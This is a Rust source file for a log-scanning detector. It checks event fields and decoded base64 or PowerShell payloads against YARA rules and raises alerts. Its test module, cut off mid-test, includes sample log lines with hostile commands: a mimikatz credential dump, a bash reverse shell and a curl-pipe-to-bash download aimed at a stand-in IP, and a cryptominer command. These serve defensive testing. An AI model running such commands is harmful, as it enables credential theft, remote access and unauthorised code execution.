//! The per-worker scanner: picks the configured targets out of an event, decodes hidden
//! payloads, scans each with yara-x and turns matches into alerts.

use std::borrow::Cow;
use std::time::Duration;

use citysoc_collector::Event;
use serde::{Deserialize, Serialize};
use serde_json::Value;

use super::batch::{self, Verdict, SINGLE_MAX_MATCHES};
use super::decode::{self, Decoding};
use super::pieces::{Piece, Pieces};
use super::rules::{YaraRuleInfo, YaraRuleSet};
use crate::{Alert, AlertKind};

/// A prefilter batch is scanned once its targets reach this many bytes, after the event that
/// reached it (more events make several batches; a batch stays in the CPU's cache while it is
/// copied, scanned and read back).
const BATCH_BYTES: usize = 256 * 1024;

/// yara-x's default limit of matches per pattern, kept for prefilter scans: reaching it
/// would hide the matches of later targets, so it triggers the per-target fallback.
const PREFILTER_MAX_MATCHES: usize = 1_000_000;

/// At most this many base64 runs are decoded per event; a record stuffed with base64 must
/// not multiply the work without bound. The rest are counted as skipped.
const MAX_DECODED_PER_EVENT: usize = 16;

/// What the YARA scanner looks at, and its limits. In the server configuration under `yara:`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct YaraConfig {
    /// The fields to scan, by the names `Event::field` knows (ECS core names or the device's
    /// own), plus `raw` for the record as received. A field holding a list has each string
    /// scanned. Names starting with `url.` and the W3C/IIS query fields are also scanned
    /// percent-decoded; names ending in `base64` are attachments scanned as their decoded
    /// bytes. A field whose text appears verbatim in the raw record is not scanned again.
    pub targets: Vec<String>,
    /// Bytes scanned at most per target (default 1 MiB). Longer input is scanned up to the
    /// limit, counted in [`YaraStats::truncated`] and flagged `truncated` in alert details.
    pub max_scan_bytes: usize,
    /// yara-x scan timeout in seconds per target (default 1; yara-x counts whole seconds, and a
    /// scan gets at least this long, at most one second more).
    /// 0 disables the timeout. A timed-out scan is counted and gives no alert.
    pub timeout_secs: u64,
    /// Decode and scan PowerShell `-EncodedCommand` arguments and base64 runs of 40
    /// characters or more found in the targets (default true).
    pub decode_base64: bool,
    /// Scan the targets of an event (or of a batch of events) together in one yara-x scan
    /// and rescan alone only the targets where some pattern matched (default true). Alerts
    /// are the same as scanning each target alone; rules that need to see a target alone
    /// (`filesize`, offsets, `not $a` …) are always scanned target by target.
    pub prefilter: bool,
}

impl Default for YaraConfig {
    fn default() -> Self {
        YaraConfig {
            targets: [
                "raw",
                "process.command_line",
                "CommandLine",
                "ParentCommandLine",
                "message",
                "url.original",
                "cs-uri-query",
                "http.request.body.content",
                "request_body",
                "file.content",
                "file_content_base64",
            ]
            .map(str::to_owned)
            .to_vec(),
            max_scan_bytes: 1024 * 1024,
            timeout_secs: 1,
            decode_base64: true,
            prefilter: true,
        }
    }
}

/// What a scanner has done, for metrics and `citysoc` summaries. Every target that was not
/// scanned in full is counted somewhere here.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct YaraStats {
    /// Events given to the scanner.
    pub events: u64,
    /// yara-x scans run (targets and decoded payloads).
    pub targets_scanned: u64,
    /// Bytes handed to yara-x.
    pub bytes_scanned: u64,
    /// Decoded payloads among the scans.
    pub decoded_scanned: u64,
    /// Targets cut at `max_scan_bytes`.
    pub truncated: u64,
    /// Scans aborted by the timeout.
    pub timeouts: u64,
    /// Scans yara-x failed for another reason.
    pub errors: u64,
    /// Field targets not scanned because the raw record (or an earlier target of the event)
    /// already held their exact text.
    pub skipped_inside_raw: u64,
    /// Base64 runs not decoded because the event already had 16.
    pub skipped_decoded: u64,
    /// Alerts raised.
    pub alerts: u64,
    /// Prefilter scans of several targets at once.
    pub batch_scans: u64,
    /// yara-x scans of one target alone: prefilter candidates (a pattern matched in them),
    /// targets of rules that must see each target alone, and every target with the prefilter
    /// off.
    pub single_scans: u64,
    /// Prefilter scans that failed (timeout, error, match limit), after which every target of
    /// the batch was scanned alone.
    pub batch_fallbacks: u64,
    /// Targets a batch match touched whose alerts were read from the batch scan instead of
    /// scanning them alone (their rules match exactly when one of their patterns does).
    pub batch_settled: u64,
}

/// How a configured target is read from an event.
#[derive(Debug, Clone)]
struct TargetSpec {
    name: String,
    raw: bool,
    /// Also scan the percent-decoded text.
    url: bool,
    /// The value is base64: scan its decoded bytes instead.
    base64_attachment: bool,
    /// A command line: look for PowerShell's `-EncodedCommand` flag in it.
    command_line: bool,
    /// The core field of that ECS name, looked at before `fields`.
    core: Option<CoreField>,
}

impl TargetSpec {
    fn new(name: &str) -> Self {
        let lower = name.to_ascii_lowercase();
        TargetSpec {
            name: name.to_owned(),
            raw: name == "raw",
            url: lower.starts_with("url.")
                || matches!(
                    lower.as_str(),
                    "cs-uri-query" | "cs-uri-stem" | "cs-uri" | "request" | "uri" | "url"
                ),
            base64_attachment: lower.ends_with("base64"),
            command_line: lower.contains("command"),
            core: CoreField::by_name(name),
        }
    }
}

/// A field's text in an event, before deciding what to scan.
struct Text<'e> {
    target: usize,
    bytes: &'e [u8],
    command_line: bool,
    inside_raw: bool,
}

/// A target read from an event, before it is copied into the batch buffer: the copies are
/// made together when the batch is full, a loop of independent reads the CPU overlaps, where
/// copying each record right after finding it waits for it on every event.
struct Pending<'e> {
    event: usize,
    target: usize,
    bytes: Cow<'e, [u8]>,
    decoding: Option<Decoding>,
}

/// Buffers reused across the events of one batch.
#[derive(Default)]
struct Scratch<'e> {
    texts: Vec<Text<'e>>,
    found: Vec<Option<&'e Value>>,
}

/// The field targets by the top-level key of `Event::fields` they are found under, bucketed
/// by key length: one pass over an event's fields finds them all, where a lookup per target
/// would hash every configured name for every event.
#[derive(Debug, Default)]
struct FieldIndex {
    buckets: Vec<Vec<FieldKey>>,
    targets: usize,
    /// No field target at all (only `raw`): nothing to look up per event.
    empty: bool,
}

#[derive(Debug)]
struct FieldKey {
    key: String,
    target: usize,
    /// The rest of a dotted name, walked into nested objects (`file` → `content`).
    nested: Option<String>,
}

const KEY_BUCKETS: usize = 64;

impl FieldIndex {
    fn new(targets: &[String]) -> Self {
        let mut index = FieldIndex {
            buckets: (0..KEY_BUCKETS).map(|_| Vec::new()).collect(),
            targets: targets.len(),
            empty: true,
        };
        for (target, name) in targets.iter().enumerate() {
            if name == "raw" {
                continue;
            }
            index.add(FieldKey {
                key: name.clone(),
                target,
                nested: None,
            });
            if let Some((top, rest)) = name.split_once('.') {
                index.add(FieldKey {
                    key: top.to_owned(),
                    target,
                    nested: Some(rest.to_owned()),
                });
            }
        }
        index
    }

    fn add(&mut self, key: FieldKey) {
        self.empty = false;
        if let Some(bucket) = self.buckets.get_mut(key.key.len().min(KEY_BUCKETS - 1)) {
            bucket.push(key);
        }
    }

    /// The value of each field target in `event.fields` (`None` when absent), indexed by
    /// target. A flat key wins over a nested path, as in `Event::field`.
    fn lookup<'e>(&self, event: &'e Event, found: &mut Vec<Option<&'e Value>>) {
        found.clear();
        if self.empty {
            return;
        }
        found.resize(self.targets, None);
        for (key, value) in &event.fields {
            let Some(bucket) = self.buckets.get(key.len().min(KEY_BUCKETS - 1)) else {
                continue;
            };
            // The first byte settles nearly every mismatch without a `memcmp` call.
            let first = key.as_bytes().first();
            for entry in bucket
                .iter()
                .filter(|entry| entry.key.as_bytes().first() == first && entry.key == *key)
            {
                let resolved = match &entry.nested {
                    None => Some(value),
                    Some(rest) => walk(value, rest),
                };
                if let (Some(slot), Some(resolved)) = (found.get_mut(entry.target), resolved) {
                    if slot.is_none() || entry.nested.is_none() {
                        *slot = Some(resolved);
                    }
                }
            }
        }
    }
}

fn walk<'e>(value: &'e Value, path: &str) -> Option<&'e Value> {
    path.split('.')
        .try_fold(value, |current, part| current.as_object()?.get(part))
}

/// One worker's YARA scanner. Create it from the shared rule set in the worker's thread and
/// keep it for the worker's life (creating a yara-x scanner costs far more than a scan):
///
/// ```ignore
/// let rules: Arc<YaraRuleSet> = shared.clone();
/// std::thread::spawn(move || {
///     let mut scanner = YaraScanner::new(&rules, &config);
///     for event in events { alerts.extend(scanner.scan_event(&event)); }
/// });
/// ```
pub struct YaraScanner<'r> {
    rules: &'r YaraRuleSet,
    /// Scans single targets with the prefiltered rules.
    scanner: yara_x::Scanner<'r>,
    /// Scans batches with the prefiltered rules (its own match limit).
    batch_scanner: yara_x::Scanner<'r>,
    /// Scans single targets with the rules that must see each target alone.
    per_target: Option<yara_x::Scanner<'r>>,
    prefiltered_rules: bool,
    targets: Vec<TargetSpec>,
    /// Index of the `raw` target (0 when not configured; then it is never used).
    raw_target: usize,
    fields: FieldIndex,
    max_scan_bytes: usize,
    decode_base64: bool,
    prefilter: bool,
    /// The raw record is the only target and nothing is decoded (see [`Self::collect_raw`]).
    raw_only: bool,
    stats: YaraStats,
    /// The targets of the batch being collected, reused from call to call.
    pieces: Pieces,
    /// The verdicts of the batch's targets that are not clean, reused from call to call.
    verdicts: Vec<(usize, Verdict<'r>)>,
}

impl std::fmt::Debug for YaraScanner<'_> {
    fn fmt(&self, formatter: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        formatter
            .debug_struct("YaraScanner")
            .field("targets", &self.targets)
            .field("max_scan_bytes", &self.max_scan_bytes)
            .field("stats", &self.stats)
            .finish()
    }
}

impl<'r> YaraScanner<'r> {
    /// A scanner over `rules` with the targets and limits of `config`.
    pub fn new(rules: &'r YaraRuleSet, config: &YaraConfig) -> Self {
        // yara-x ends a scan when its once-a-second heartbeat has ticked `timeout` times since
        // the scan started, so a timeout of N seconds really means somewhere between N - 1 and
        // N: with 1, any scan that happens to span a tick is cut off (seen as a flaky test on
        // a loaded machine, and in production it would silently skip rules). One more tick
        // makes the configured value a floor.
        let timeout = (config.timeout_secs > 0)
            .then(|| Duration::from_secs(config.timeout_secs.saturating_add(1)));
        let single = |compiled: &'r yara_x::Rules| {
            let mut scanner = yara_x::Scanner::new(compiled);
            if let Some(timeout) = timeout {
                scanner.set_timeout(timeout);
            }
            // Alerts report at most a few offsets; a pattern matching a megabyte of repeated
            // text must not grow the match list without bound.
            scanner.max_matches_per_pattern(SINGLE_MAX_MATCHES);
            scanner
        };
        let mut batch_scanner = yara_x::Scanner::new(&rules.rules);
        if let Some(timeout) = timeout {
            batch_scanner.set_timeout(timeout);
        }
        batch_scanner.max_matches_per_pattern(PREFILTER_MAX_MATCHES);
        let fields = FieldIndex::new(&config.targets);
        let raw_only = fields.empty
            && !config.decode_base64
            && config.targets.iter().any(|name| name == "raw");
        YaraScanner {
            rules,
            scanner: single(&rules.rules),
            batch_scanner,
            per_target: rules.per_target.as_ref().map(single),
            prefiltered_rules: rules.len() > rules.per_target_rules(),
            targets: config
                .targets
                .iter()
                .map(|name| TargetSpec::new(name))
                .collect(),
            raw_target: config
                .targets
                .iter()
                .position(|name| name == "raw")
                .unwrap_or_default(),
            fields,
            max_scan_bytes: config.max_scan_bytes.max(1),
            decode_base64: config.decode_base64,
            prefilter: config.prefilter,
            raw_only,
            stats: YaraStats::default(),
            pieces: Pieces::default(),
            verdicts: Vec::new(),
        }
    }

    /// What this scanner has done so far.
    pub fn stats(&self) -> YaraStats {
        self.stats
    }

    /// Scans the configured targets of one event: one alert per matching rule (the first
    /// target that matched is in `details.target`, others in `details.other_targets`).
    pub fn scan_event(&mut self, event: &Event) -> Vec<Alert> {
        self.scan_events(std::slice::from_ref(event))
    }

    /// Scans several events, with the same alerts as [`YaraScanner::scan_event`] on each in
    /// turn, but with the prefilter working over the whole batch: far fewer yara-x scans when,
    /// as usual, few events match. Alerts come in event order.
    pub fn scan_events(&mut self, events: &[Event]) -> Vec<Alert> {
        let mut alerts = Vec::new();
        let mut scratch = Scratch::default();
        // At least one target per event (the raw record, usually), so rarely regrown.
        let mut pending = Vec::with_capacity(events.len());
        let mut pending_bytes = 0;
        for (index, event) in events.iter().enumerate() {
            self.stats.events += 1;
            if self.raw_only {
                pending_bytes += self.collect_raw(index, event, &mut pending);
            } else {
                let before = pending.len();
                self.collect_pieces(index, event, &mut scratch, &mut pending);
                pending_bytes += pending
                    .get(before..)
                    .unwrap_or_default()
                    .iter()
                    .map(|piece: &Pending<'_>| piece.bytes.len().min(self.max_scan_bytes) + 1)
                    .sum::<usize>();
            }
            if pending_bytes >= BATCH_BYTES {
                self.scan_batch(events, &mut pending, &mut alerts);
                pending_bytes = 0;
            }
        }
        self.scan_batch(events, &mut pending, &mut alerts);
        self.stats.alerts += alerts.len() as u64;
        alerts
    }

    /// Scans the `pending` targets (whole events of `events`), adds their alerts in event
    /// order and empties the batch.
    fn scan_batch(
        &mut self,
        events: &[Event],
        pending: &mut Vec<Pending<'_>>,
        alerts: &mut Vec<Alert>,
    ) {
        if pending.is_empty() {
            return;
        }
        self.pieces.clear();
        let (mut truncated, mut decoded) = (0, 0);
        for piece in pending.drain(..) {
            truncated += u64::from(self.pieces.push(
                piece.event,
                piece.target,
                &piece.bytes,
                piece.decoding,
                self.max_scan_bytes,
            ));
            decoded += u64::from(piece.decoding.is_some());
        }
        let count = self.pieces.len();
        self.stats.targets_scanned += count as u64;
        // The buffer holds each target's scanned bytes and one separator.
        self.stats.bytes_scanned += self.pieces.buffer_len().saturating_sub(count) as u64;
        self.stats.truncated += truncated;
        self.stats.decoded_scanned += decoded;
        self.candidates();
        let mut verdicts = std::mem::take(&mut self.verdicts);
        // Most targets that are not clean raise an alert: one growth of the list, not several.
        alerts.reserve(verdicts.len());
        let mut current_event = usize::MAX;
        let mut first_alert = alerts.len();
        if self.per_target.is_none() {
            // Only the targets that are not clean can raise alerts: usually a few of thousands.
            for (number, verdict) in verdicts.drain(..) {
                let Some(piece) = self.pieces.get(number) else {
                    continue;
                };
                if piece.event != current_event {
                    current_event = piece.event;
                    first_alert = alerts.len();
                }
                if let Some(event) = events.get(piece.event) {
                    self.apply(verdict, number, piece, event, alerts, first_alert);
                }
            }
        } else {
            let mut pending = verdicts.drain(..).peekable();
            for number in 0..self.pieces.len() {
                let verdict = pending
                    .next_if(|(at, _)| *at == number)
                    .map_or(Verdict::Clean, |(_, verdict)| verdict);
                let Some(piece) = self.pieces.get(number) else {
                    continue;
                };
                let Some(event) = events.get(piece.event) else {
                    continue;
                };
                if piece.event != current_event {
                    current_event = piece.event;
                    first_alert = alerts.len();
                }
                self.apply(verdict, number, piece, event, alerts, first_alert);
                self.scan_piece(number, piece, event, Which::PerTarget, alerts, first_alert);
            }
        }
        self.verdicts = verdicts;
    }

    /// The alerts of the prefiltered rules for target `number`, as its verdict says.
    fn apply(
        &mut self,
        verdict: Verdict<'r>,
        number: usize,
        piece: Piece,
        event: &Event,
        alerts: &mut Vec<Alert>,
        first_alert: usize,
    ) {
        match verdict {
            Verdict::Clean => {}
            Verdict::Rescan => {
                self.scan_piece(
                    number,
                    piece,
                    event,
                    Which::Prefiltered,
                    alerts,
                    first_alert,
                );
            }
            Verdict::Settled(hits) => {
                self.stats.batch_settled += 1;
                for hit in hits {
                    self.raise(hit.info, hit.strings, piece, event, alerts, first_alert);
                }
            }
        }
    }

    /// What the prefiltered rules need for each target of the batch: nothing when no pattern
    /// match touched it in the batch scan, its alerts when the batch settles them, else a scan
    /// alone (all of them when the prefilter is off, would not save a scan, or fails).
    ///
    /// Only the targets that are not clean go to `self.verdicts`, as (target number, verdict)
    /// in order: usually a few out of thousands.
    fn candidates(&mut self) {
        self.verdicts.clear();
        if !self.prefiltered_rules {
            return;
        }
        if !self.prefilter || self.pieces.len() < 2 {
            self.verdicts
                .extend((0..self.pieces.len()).map(|at| (at, Verdict::Rescan)));
            return;
        }
        self.stats.batch_scans += 1;
        let rules = self.rules;
        let complete = match self.batch_scanner.scan(self.pieces.buffer()) {
            Ok(results) => batch::settle(
                rules,
                &results,
                self.pieces.starts(),
                self.pieces.buffer_len(),
                PREFILTER_MAX_MATCHES,
                0,
                &mut self.verdicts,
            ),
            Err(_) => false,
        };
        if !complete {
            self.stats.batch_fallbacks += 1;
            self.verdicts.clear();
            self.verdicts
                .extend((0..self.pieces.len()).map(|at| (at, Verdict::Rescan)));
        }
    }

    /// [`Self::collect_pieces`] when the raw record is the only target and nothing is decoded:
    /// reads the record and nothing else of the event (the general path reads the core
    /// fields a target could name, a cache miss on each of their lines for every event).
    /// Returns the bytes the record takes in the batch.
    fn collect_raw<'e>(&self, index: usize, event: &'e Event, out: &mut Vec<Pending<'e>>) -> usize {
        let raw = match event.raw.as_deref() {
            Some(text) => Cow::Borrowed(text.as_bytes()),
            None => event.raw_bytes(),
        };
        if raw.is_empty() {
            return 0;
        }
        let taken = raw.len().min(self.max_scan_bytes) + 1;
        out.push(Pending {
            event: index,
            target: self.raw_target,
            bytes: raw,
            decoding: None,
        });
        taken
    }

    /// Appends the targets of `event` (number `index` in the call) and the payloads decoded
    /// from them to the batch, in scan order.
    fn collect_pieces<'e>(
        &mut self,
        index: usize,
        event: &'e Event,
        scratch: &mut Scratch<'e>,
        out: &mut Vec<Pending<'e>>,
    ) {
        scratch.texts.clear();
        self.fields.lookup(event, &mut scratch.found);
        let mut raw_text: Option<Cow<'e, [u8]>> = None;
        for target in 0..self.targets.len() {
            let Some(spec) = self.targets.get(target) else {
                continue;
            };
            if spec.raw {
                let raw = event.raw_bytes();
                if !raw.is_empty() {
                    raw_text = Some(raw);
                }
                continue;
            }
            let (url, base64_attachment, command_line) =
                (spec.url, spec.base64_attachment, spec.command_line);
            for value in field_strings(event, spec, scratch.found.get(target).copied().flatten()) {
                if value.is_empty() {
                    continue;
                }
                if base64_attachment {
                    self.push_attachment(index, target, value, out);
                    continue;
                }
                if url {
                    if let Some(decoded) = decode::percent_decode(value.as_bytes()) {
                        out.push(Pending {
                            event: index,
                            target,
                            bytes: Cow::Owned(decoded),
                            decoding: Some(Decoding::Percent),
                        });
                    }
                }
                scratch.texts.push(Text {
                    target,
                    bytes: value.as_bytes(),
                    command_line,
                    inside_raw: false,
                });
            }
        }
        // A field whose exact text the raw record (or an earlier field) holds is not scanned
        // again: that scan sees the same bytes. (`process.command_line` is usually the
        // device's `CommandLine`.) Deciding "not inside" wrongly only costs a second scan.
        // Only read when some field is to be checked: touching the raw record here would take
        // its cache miss a second time (the batch copy reads it again much later).
        let json_raw = !scratch.texts.is_empty()
            && raw_text.as_deref().is_some_and(|raw| {
                raw.iter().find(|byte| !byte.is_ascii_whitespace()) == Some(&b'{')
            });
        for current in 0..scratch.texts.len() {
            let Some(text) = scratch.texts.get(current) else {
                continue;
            };
            let repeated = scratch
                .texts
                .get(..current)
                .unwrap_or_default()
                .iter()
                .any(|earlier| earlier.bytes == text.bytes);
            let inside = repeated
                || raw_text.as_deref().is_some_and(|raw| {
                    // JSON escapes quotes and backslashes inside strings, so a text holding
                    // one is never verbatim in a JSON record.
                    if json_raw && memchr::memchr2(b'"', b'\\', text.bytes).is_some() {
                        return false;
                    }
                    decode::contains(
                        raw.get(..raw.len().min(self.max_scan_bytes)).unwrap_or(raw),
                        text.bytes,
                    )
                });
            if let Some(text) = scratch.texts.get_mut(current) {
                text.inside_raw = inside;
            }
        }
        let raw_target = self.raw_target;
        if let Some(raw) = &raw_text {
            out.push(Pending {
                event: index,
                target: raw_target,
                bytes: raw.clone(),
                decoding: None,
            });
        }
        for text in &scratch.texts {
            if text.inside_raw {
                self.stats.skipped_inside_raw += 1;
            } else {
                out.push(Pending {
                    event: index,
                    target: text.target,
                    bytes: Cow::Borrowed(text.bytes),
                    decoding: None,
                });
            }
        }
        if self.decode_base64 {
            self.decode_event_payloads(index, raw_text.as_deref(), raw_target, &scratch.texts, out);
        }
    }

    /// Base64 payloads of one event, decoded. Runs are looked for in the raw record and in the
    /// fields that are not inside it (the others' runs are in the raw record too); a run found
    /// in the raw record is reported under the first field holding it. PowerShell's
    /// `-EncodedCommand` flag is looked for in command-line fields, which also finds encoded
    /// commands shorter than a base64 run.
    fn decode_event_payloads<'e>(
        &mut self,
        index: usize,
        raw: Option<&[u8]>,
        raw_target: usize,
        texts: &[Text<'e>],
        out: &mut Vec<Pending<'e>>,
    ) {
        let mut seen: Vec<u64> = Vec::new();
        for text in texts.iter().filter(|text| text.command_line) {
            let runs = decode::powershell_encoded_arguments(self.limited(text.bytes));
            self.decode_runs(index, text.target, text.bytes, runs, &mut seen, out, &[]);
        }
        for text in texts.iter().filter(|text| !text.inside_raw) {
            let runs = decode::base64_runs(self.limited(text.bytes), decode::MIN_BASE64_RUN);
            self.decode_runs(index, text.target, text.bytes, runs, &mut seen, out, &[]);
        }
        if let Some(raw) = raw {
            let runs = decode::base64_runs(self.limited(raw), decode::MIN_BASE64_RUN);
            self.decode_runs(index, raw_target, raw, runs, &mut seen, out, texts);
        }
    }

    fn limited<'b>(&self, bytes: &'b [u8]) -> &'b [u8] {
        bytes
            .get(..bytes.len().min(self.max_scan_bytes))
            .unwrap_or(bytes)
    }

    /// A base64 attachment (`file_content_base64`): scanned as its decoded bytes.
    fn push_attachment<'e>(
        &mut self,
        index: usize,
        target: usize,
        value: &'e str,
        out: &mut Vec<Pending<'e>>,
    ) {
        let compact: Vec<u8> = value
            .bytes()
            .filter(|byte| !byte.is_ascii_whitespace())
            .take(self.max_base64_chars())
            .collect();
        let (bytes, decoding) = match decode::decode_base64(&compact) {
            Some(bytes) => (Cow::Owned(bytes), Some(Decoding::Base64)),
            // Not base64 after all: scan the text as it is.
            None => (Cow::Borrowed(value.as_bytes()), None),
        };
        out.push(Pending {
            event: index,
            target,
            bytes,
            decoding,
        });
    }

    fn max_base64_chars(&self) -> usize {
        // Enough characters to decode to the scan limit, rounded to whole base64 groups.
        (self.max_scan_bytes / 3 + 1).saturating_mul(4)
    }

    /// Decodes the `runs` of `text` (already cut at the scan limit), skipping runs seen
    /// before in the event. A run is reported under the first of `holders` whose text holds
    /// it, else under `target`.
    #[allow(clippy::too_many_arguments)]
    fn decode_runs<'e>(
        &mut self,
        index: usize,
        target: usize,
        text: &[u8],
        runs: Vec<std::ops::Range<usize>>,
        seen: &mut Vec<u64>,
        out: &mut Vec<Pending<'e>>,
        holders: &[Text<'e>],
    ) {
        for run in runs {
            let Some(run_bytes) = text.get(
                run.start
                    ..run
                        .end
                        .min(run.start.saturating_add(self.max_base64_chars())),
            ) else {
                continue;
            };
            let hash = xxhash_rust::xxh3::xxh3_64(run_bytes);
            if seen.contains(&hash) {
                continue;
            }
            if seen.len() >= MAX_DECODED_PER_EVENT {
                self.stats.skipped_decoded += 1;
                continue;
            }
            seen.push(hash);
            let Some((bytes, decoding)) = decode::decode_payload(run_bytes) else {
                continue;
            };
            let holder = holders
                .iter()
                .find(|holder| decode::contains(holder.bytes, run_bytes))
                .map_or(target, |holder| holder.target);
            out.push(Pending {
                event: index,
                target: holder,
                bytes: Cow::Owned(bytes),
                decoding: Some(decoding),
            });
        }
    }

    /// Scans target `number` of the batch alone with one of the rule sets and adds or extends
    /// the alerts of the rules that matched; `alerts[first_alert..]` are the event's alerts so
    /// far.
    fn scan_piece(
        &mut self,
        number: usize,
        piece: Piece,
        event: &Event,
        which: Which,
        alerts: &mut Vec<Alert>,
        first_alert: usize,
    ) {
        let data = self.pieces.bytes(number);
        let scanner = match which {
            Which::Prefiltered => &mut self.scanner,
            Which::PerTarget => match self.per_target.as_mut() {
                Some(scanner) => scanner,
                None => return,
            },
        };
        self.stats.single_scans += 1;
        let results = match scanner.scan(data) {
            Ok(results) => results,
            Err(yara_x::ScanError::Timeout) => {
                self.stats.timeouts += 1;
                return;
            }
            Err(_) => {
                self.stats.errors += 1;
                return;
            }
        };
        let rules = self.rules;
        let mut found = Vec::new();
        for rule in results.matching_rules() {
            if let Some(info) = rules.rule_info(rule.namespace(), rule.identifier()) {
                found.push((
                    info,
                    batch::matched_strings(&rule, |range| Some(range.start)),
                ));
            }
        }
        for (info, strings) in found {
            self.raise(info, strings, piece, event, alerts, first_alert);
        }
    }

    /// Adds the alert of rule `info` matching `piece` of `event`, or names the piece's target
    /// in the event's alert of that rule when there is one already.
    fn raise(
        &mut self,
        info: &YaraRuleInfo,
        strings: Vec<Value>,
        piece: Piece,
        event: &Event,
        alerts: &mut Vec<Alert>,
        first_alert: usize,
    ) {
        let target = self
            .targets
            .get(piece.target)
            .map_or("", |spec| spec.name.as_str());
        let event_alerts = alerts.get_mut(first_alert..).unwrap_or_default();
        if let Some(existing) = event_alerts.iter_mut().find(|alert| {
            alert.details.get("yara_rule").and_then(Value::as_str)
                == Some(info.qualified_name.as_str())
        }) {
            add_other_target(existing, target);
            return;
        }
        let mut alert = Alert::for_event(
            AlertKind::Yara,
            &info.rule_id,
            &info.title,
            info.level,
            info.tags.clone(),
            event,
        );
        alert.details = info
            .details
            .fill(target, piece.decoding, piece.truncated, strings);
        alerts.push(alert);
    }
}

/// Which rule set a single-target scan uses.
#[derive(Debug, Clone, Copy)]
enum Which {
    Prefiltered,
    PerTarget,
}

fn add_other_target(alert: &mut Alert, target: &str) {
    if alert.details.get("target").and_then(Value::as_str) == Some(target) {
        return;
    }
    let entry = alert
        .details
        .entry("other_targets")
        .or_insert_with(|| Value::Array(Vec::new()));
    if let Value::Array(list) = entry {
        if !list.iter().any(|value| value.as_str() == Some(target)) {
            list.push(Value::from(target));
        }
    }
}

/// The core fields a target can name, resolved once when the scanner is built.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum CoreField {
    Message,
    CommandLine,
    Executable,
    ProcessName,
    Url,
    UserAgent,
    UserName,
    HostName,
}

impl CoreField {
    fn by_name(name: &str) -> Option<Self> {
        Some(match name {
            "message" => CoreField::Message,
            "process.command_line" => CoreField::CommandLine,
            "process.executable" => CoreField::Executable,
            "process.name" => CoreField::ProcessName,
            "url.original" => CoreField::Url,
            "user_agent.original" => CoreField::UserAgent,
            "user.name" => CoreField::UserName,
            "host.name" => CoreField::HostName,
            _ => return None,
        })
    }

    fn of(self, event: &Event) -> Option<&str> {
        let core = &event.core;
        match self {
            CoreField::Message => core.message.as_deref(),
            CoreField::CommandLine => core.process_command_line.as_deref(),
            CoreField::Executable => core.process_executable.as_deref(),
            CoreField::ProcessName => core.process_name.as_deref(),
            CoreField::Url => core.url_original.as_deref(),
            CoreField::UserAgent => core.user_agent_original.as_deref(),
            CoreField::UserName => core.user_name.as_deref(),
            CoreField::HostName => core.host_name.as_deref(),
        }
    }
}

/// The string values of a field target: the core field by its ECS name when set, else the
/// value found in `fields` (by the device's name or a dotted walk). Lists give each string.
fn field_strings<'e>(
    event: &'e Event,
    spec: &TargetSpec,
    found: Option<&'e Value>,
) -> FieldStrings<'e> {
    if let Some(value) = spec.core.and_then(|core| core.of(event)) {
        return FieldStrings::One(Some(value));
    }
    match found {
        Some(Value::String(text)) => FieldStrings::One(Some(text)),
        Some(Value::Array(items)) => FieldStrings::Many(items.iter()),
        _ => FieldStrings::One(None),
    }
}

/// The strings of one field without collecting them.
enum FieldStrings<'e> {
    One(Option<&'e str>),
    Many(std::slice::Iter<'e, Value>),
}

impl<'e> Iterator for FieldStrings<'e> {
    type Item = &'e str;

    fn next(&mut self) -> Option<&'e str> {
        match self {
            FieldStrings::One(value) => value.take(),
            FieldStrings::Many(items) => items.by_ref().find_map(Value::as_str),
        }
    }
}

#[cfg(test)]
mod tests {
    use std::path::PathBuf;

    use citysoc_collector::{parse_record, InputFormat, ParseContext};

    use super::*;

    fn city_rules() -> YaraRuleSet {
        let path = PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../rules/yara"));
        let (rules, problems) =
            YaraRuleSet::load(&[path]).unwrap_or_else(|error| panic!("{error}"));
        assert!(
            problems.iter().all(|problem| problem.warning),
            "{problems:?}"
        );
        rules
    }

    fn raw_only_config(max_scan_bytes: usize) -> YaraConfig {
        YaraConfig {
            targets: vec!["raw".into()],
            decode_base64: false,
            max_scan_bytes,
            ..YaraConfig::default()
        }
    }

    #[test]
    fn only_a_raw_target_without_decoding_takes_the_raw_path() {
        let rules = city_rules();
        let raw_only = |targets: &[&str], decode_base64: bool| {
            let config = YaraConfig {
                targets: targets.iter().map(|name| (*name).to_owned()).collect(),
                decode_base64,
                ..YaraConfig::default()
            };
            YaraScanner::new(&rules, &config).raw_only
        };
        assert!(raw_only(&["raw"], false));
        assert!(raw_only(&["raw", "raw"], false));
        assert!(!raw_only(&["raw"], true));
        assert!(!raw_only(&["raw", "message"], false));
        assert!(!raw_only(&["message"], false));
        assert!(!raw_only(&[], false));
        assert!(!YaraScanner::new(&rules, &YaraConfig::default()).raw_only);
    }

    /// The raw-only path (`collect_raw`) gives the alerts and counts of the general one
    /// (`collect_pieces`) on the same events: records kept as text or as base64, empty ones,
    /// ones cut at the scan limit, matches in several batches.
    #[test]
    fn the_raw_path_equals_the_general_path() {
        let rules = city_rules();
        let context = ParseContext::new("test").with_agency("quan-1");
        let filler = "x".repeat(90_000);
        let mut lines: Vec<Vec<u8>> = vec![
            b"m.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit".to_vec(),
            b"<13>Nov 22 08:00:01 host app: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1".to_vec(),
            b"<30>Nov 22 08:50:00 gis-app-01 systemd[1]: Started Session 7 of user nguyenvana."
                .to_vec(),
            // Not UTF-8: the event keeps its raw bytes as base64.
            b"<13>Nov 22 08:00:02 host app: \xff\xfe xmrig -o stratum+tcp://pool.supportxmr.com:3333"
                .to_vec(),
            Vec::new(),
            format!("<13>Nov 22 08:00:03 host app: {filler} curl http://203.0.113.9/x.sh | bash")
                .into_bytes(),
            format!("<13>Nov 22 08:00:04 host app: curl http://203.0.113.9/x.sh | bash {filler}")
                .into_bytes(),
        ];
        for round in 0..6 {
            lines.push(
                format!("<13>Nov 22 08:00:05 host app: {round} {filler} sekurlsa::logonpasswords")
                    .into_bytes(),
            );
        }
        let events: Vec<Event> = lines
            .iter()
            .enumerate()
            .map(|(index, line)| parse_record(line, InputFormat::Auto, &context, index as u64))
            .collect();
        assert!(events
            .iter()
